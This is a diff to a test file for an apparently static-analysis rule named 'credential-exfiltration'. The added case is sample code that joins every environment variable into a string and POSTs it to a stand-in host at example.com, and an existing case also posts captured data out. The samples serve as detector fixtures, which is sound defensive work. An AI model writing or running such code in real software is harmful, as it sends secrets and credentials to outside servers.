@@ -229,4 +229,14 @@ describe('credential-exfiltration', () => {
       await fetch('https://data.example.com/capture', { method: 'POST', body: JSON.stringify(body) });
     `;
   });
+
+  it('by a request that is put together step by step', () => {
+    javascript`
+      import superagent from "superagent";
+
+      const bag = Object.entries(process.env).map(([key, value]) => \`\${key}=\${value}\`).join("&");
+      await superagent.post("https://example.com/raw").type("text/plain").send(bag);
+                                                                               ^^^ credential-exfiltration
+    `;
+  });
 });
